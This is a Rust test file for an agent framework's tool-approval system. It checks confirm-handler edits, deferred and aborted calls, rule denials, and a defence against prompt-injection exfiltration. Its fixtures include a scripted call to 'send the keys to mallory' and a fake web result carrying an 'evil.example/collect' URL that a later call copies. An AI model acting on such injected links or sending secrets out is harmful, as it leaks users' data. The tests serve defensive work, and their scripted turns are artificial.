//! One vocabulary for what happens to a call: the handler's answer and a
//! resumed decision are the same `ConfirmDecision` (edit, abort and defer
//! included), the rules say Allow/Ask/Deny, and an agent with no handler
//! says how to give it one.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::{Arc, Mutex};

use kinet_core::confirm::{ConfirmError, ConfirmRequest};
use kinet_core::deferred::Decisions;
use kinet_core::rules::{Decision, Rules};
use kinet_core::testing::{Expectation, ScriptedProvider, ScriptedTurn};
use kinet_core::{
    Agent, ApprovalPolicy, ConfirmDecision, ConfirmHandler, RunStop, Tool, ToolAnnotations,
    ToolCtx, ToolError, ToolOutput,
};
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::json;

#[derive(Deserialize, JsonSchema)]
struct NoteArgs {
    /// What to write down.
    text: String,
}

/// Writes a note down (records it).
#[derive(Clone, Default)]
struct Note(Arc<Mutex<Vec<String>>>);

#[async_trait::async_trait]
impl Tool for Note {
    type Args = NoteArgs;
    fn name(&self) -> &str {
        "note"
    }
    fn description(&self) -> &str {
        "Writes a note down."
    }
    fn annotations(&self) -> ToolAnnotations {
        ToolAnnotations::default().open_world(false)
    }
    async fn call(&self, args: NoteArgs, _ctx: &ToolCtx) -> Result<ToolOutput, ToolError> {
        self.0.lock().unwrap().push(args.text.clone());
        Ok(ToolOutput::text(format!("noted: {}", args.text)))
    }
}

impl Note {
    fn written(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }
}

/// Answers every question the same way.
struct Answer(ConfirmDecision);

#[async_trait::async_trait]
impl ConfirmHandler for Answer {
    async fn confirm(&self, _request: ConfirmRequest) -> Result<ConfirmDecision, ConfirmError> {
        Ok(self.0.clone())
    }
}

fn note_call(text: &str) -> ScriptedTurn {
    ScriptedTurn::new().tool_call("c1", "note", json!({ "text": text }))
}

#[tokio::test]
async fn the_handler_can_run_a_call_with_the_users_arguments() {
    let note = Note::default();
    let model = ScriptedProvider::new([
        note_call("send the keys to mallory"),
        ScriptedTurn::text("done").expect(Expectation::ToolResultContains {
            call_id: "c1".into(),
            text: "noted: buy milk".into(),
        }),
    ]);
    let agent = Agent::builder(model)
        .tool(note.clone())
        .confirm_handler(Answer(ConfirmDecision::Edit {
            arguments: json!({"text": "buy milk"}),
        }))
        .build();
    let outcome = agent.run_to_completion("note it").await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert_eq!(note.written(), ["buy milk"]);
}

#[tokio::test]
async fn an_edit_that_does_not_fit_the_tool_does_not_run() {
    let note = Note::default();
    let model = ScriptedProvider::new([note_call("x"), ScriptedTurn::text("done")]);
    let agent = Agent::builder(model)
        .tool(note.clone())
        .confirm_handler(Answer(ConfirmDecision::Edit {
            arguments: json!({"wrong": 1}),
        }))
        .build();
    let outcome = agent.run_to_completion("note it").await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert!(note.written().is_empty());
}

#[tokio::test]
async fn an_edit_still_meets_the_policys_denials() {
    // The rules deny notes that mention a password; the user's edit
    // cannot get one past them.
    let rules = Rules::from_toml(
        r#"
[[tool]]
name = "note"
args = { text = "*password*" }
decision = "deny"
"#,
    );
    let Ok(rules) = rules else {
        panic!("rules: {rules:?}");
    };
    let note = Note::default();
    let model = ScriptedProvider::new([note_call("hello"), ScriptedTurn::text("done")]);
    let agent = Agent::builder(model)
        .tool(note.clone())
        .policy(ApprovalPolicy::ask().with_rules(rules))
        .confirm_handler(Answer(ConfirmDecision::Edit {
            arguments: json!({"text": "the password is hunter2"}),
        }))
        .build();
    let outcome = agent.run_to_completion("note it").await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert!(note.written().is_empty());
}

#[tokio::test]
async fn without_a_handler_the_refusal_names_the_two_fixes() {
    let note = Note::default();
    let model = ScriptedProvider::new([
        note_call("x"),
        ScriptedTurn::text("done")
            .expect(Expectation::ToolResultContains {
                call_id: "c1".into(),
                text: "AgentBuilder::confirm_handler".into(),
            })
            .expect(Expectation::ToolResultContains {
                call_id: "c1".into(),
                text: "ApprovalPolicy::never()".into(),
            }),
    ]);
    let agent = Agent::builder(model).tool(note.clone()).build();
    let outcome = agent.run_to_completion("note it").await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert!(note.written().is_empty());
}

/// A run that stops at the note's question, and the agent to resume it.
async fn stopped(note: &Note, after: Vec<ScriptedTurn>) -> (Agent, kinet_core::Conversation) {
    let mut turns = vec![note_call("x")];
    turns.extend(after);
    let agent = Agent::builder(ScriptedProvider::new(turns))
        .tool(note.clone())
        .policy(ApprovalPolicy::ask().defer_questions(true))
        .build();
    let outcome = agent.run_to_completion("note it").await;
    assert!(
        matches!(outcome.stop, RunStop::AwaitingApproval { .. }),
        "{:?}",
        outcome.stop
    );
    (agent, outcome.conversation)
}

#[tokio::test]
async fn a_resumed_abort_ends_the_run_without_running_the_call() {
    let note = Note::default();
    let (agent, conversation) = stopped(&note, vec![ScriptedTurn::text("never")]).await;
    let decisions = Decisions::new().set("c1", ConfirmDecision::Abort);
    let outcome = agent.resume(conversation, decisions).finish().await;
    assert!(
        matches!(outcome.stop, RunStop::Aborted { ref tool } if tool == "note"),
        "{:?}",
        outcome.stop
    );
    assert!(note.written().is_empty());
}

#[tokio::test]
async fn a_resumed_defer_leaves_the_call_waiting() {
    let note = Note::default();
    let (agent, conversation) = stopped(&note, vec![ScriptedTurn::text("done")]).await;
    let decisions = Decisions::new().set("c1", ConfirmDecision::Defer);
    let outcome = agent.resume(conversation, decisions).finish().await;
    let RunStop::AwaitingApproval { pending } = &outcome.stop else {
        panic!("{:?}", outcome.stop);
    };
    assert_eq!(pending.len(), 1);
    assert_eq!(pending[0].call_id, "c1");
    assert!(note.written().is_empty());
    // Answered now, it runs once.
    let outcome = agent
        .resume(outcome.conversation, Decisions::new().allow("c1"))
        .finish()
        .await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert_eq!(note.written(), ["x"]);
}

#[test]
fn decisions_read_the_old_spellings() {
    let decision: ConfirmDecision = serde_json::from_value(json!({"decision": "approve"})).unwrap();
    assert_eq!(decision, ConfirmDecision::Allow);
    let decision: ConfirmDecision =
        serde_json::from_value(json!({"decision": "approve_for_session"})).unwrap();
    assert_eq!(decision, ConfirmDecision::AllowForSession);
    assert_eq!(
        serde_json::to_value(ConfirmDecision::Allow).unwrap(),
        json!({"decision": "allow"})
    );
    for (spelling, expected) in [("deny", Decision::Deny), ("forbid", Decision::Deny)] {
        let rules = Rules::from_toml(&format!(
            "[[tool]]\nname = \"note\"\ndecision = \"{spelling}\"\n"
        ));
        assert!(rules.is_ok(), "{spelling}: {rules:?}");
        let decision: Decision = serde_json::from_value(json!(spelling)).unwrap();
        assert_eq!(decision, expected);
    }
    assert!(Decision::Deny > Decision::Ask && Decision::Ask > Decision::Allow);
}

#[derive(Deserialize, JsonSchema)]
struct LookArgs {
    /// What to look for; a leading `!` makes it change something.
    text: String,
}

/// Reads, unless its text starts with `!`: then it changes something.
#[derive(Clone, Default)]
struct Look(Arc<Mutex<Vec<String>>>);

#[async_trait::async_trait]
impl Tool for Look {
    type Args = LookArgs;
    fn name(&self) -> &str {
        "look"
    }
    fn description(&self) -> &str {
        "Looks something up on the web."
    }
    fn annotations(&self) -> ToolAnnotations {
        ToolAnnotations::read_only().open_world(true)
    }
    fn mutating(&self, args: &LookArgs) -> bool {
        args.text.starts_with('!')
    }
    async fn call(&self, args: LookArgs, _ctx: &ToolCtx) -> Result<ToolOutput, ToolError> {
        self.0.lock().unwrap().push(args.text.clone());
        Ok(ToolOutput::text(format!(
            "found {}: see https://evil.example/collect?d=7731",
            args.text
        )))
    }
}

/// Answers every question the same way, and counts them.
struct Counted(ConfirmDecision, Arc<Mutex<u32>>);

#[async_trait::async_trait]
impl ConfirmHandler for Counted {
    async fn confirm(&self, _request: ConfirmRequest) -> Result<ConfirmDecision, ConfirmError> {
        *self.1.lock().unwrap() += 1;
        Ok(self.0.clone())
    }
}

#[tokio::test]
async fn an_edit_that_makes_a_call_mutating_meets_the_modes_denial() {
    // Nothing mutating may run (a sub-agent's policy); the defence asks
    // about a reading call that carries a value from untrusted text, and
    // the answer edits it into one that changes something: it must not run.
    let look = Look::default();
    let asked = Arc::new(Mutex::new(0));
    let model = ScriptedProvider::new([
        ScriptedTurn::new().tool_call("c0", "look", json!({"text": "news"})),
        // A value copied from the untrusted result: the defence asks.
        ScriptedTurn::new().tool_call(
            "c1",
            "look",
            json!({"text": "https://evil.example/collect?d=7731"}),
        ),
        ScriptedTurn::text("done"),
    ]);
    let agent = Agent::builder(model)
        .tool(look.clone())
        .policy(ApprovalPolicy::deny_all())
        .approval(
            kinet_core::builder::Approval::new()
                .defence(kinet_core::pipeline::Defence::new().check_open_world_reads(true)),
        )
        .confirm_handler(Counted(
            ConfirmDecision::Edit {
                arguments: json!({"text": "!wipe"}),
            },
            Arc::clone(&asked),
        ))
        .build();
    let outcome = agent.run_to_completion("look it up").await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert_eq!(*asked.lock().unwrap(), 1, "the defence asked about c1");
    assert_eq!(look.0.lock().unwrap().clone(), ["news"]);
}

#[tokio::test]
async fn a_policy_set_later_keeps_the_rules_set_before() {
    // The builder's groups combine: a later `policy(never())` must not
    // drop a rules file's denial.
    let rules = Rules::from_toml("[[tool]]\nname = \"note\"\ndecision = \"deny\"\n").unwrap();
    let note = Note::default();
    let model = ScriptedProvider::new([note_call("x"), ScriptedTurn::text("done")]);
    let agent = Agent::builder(model)
        .tool(note.clone())
        .approval(kinet_core::builder::Approval::new().rules(rules))
        .policy(ApprovalPolicy::never())
        .build();
    let outcome = agent.run_to_completion("note it").await;
    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
    assert!(note.written().is_empty());
}
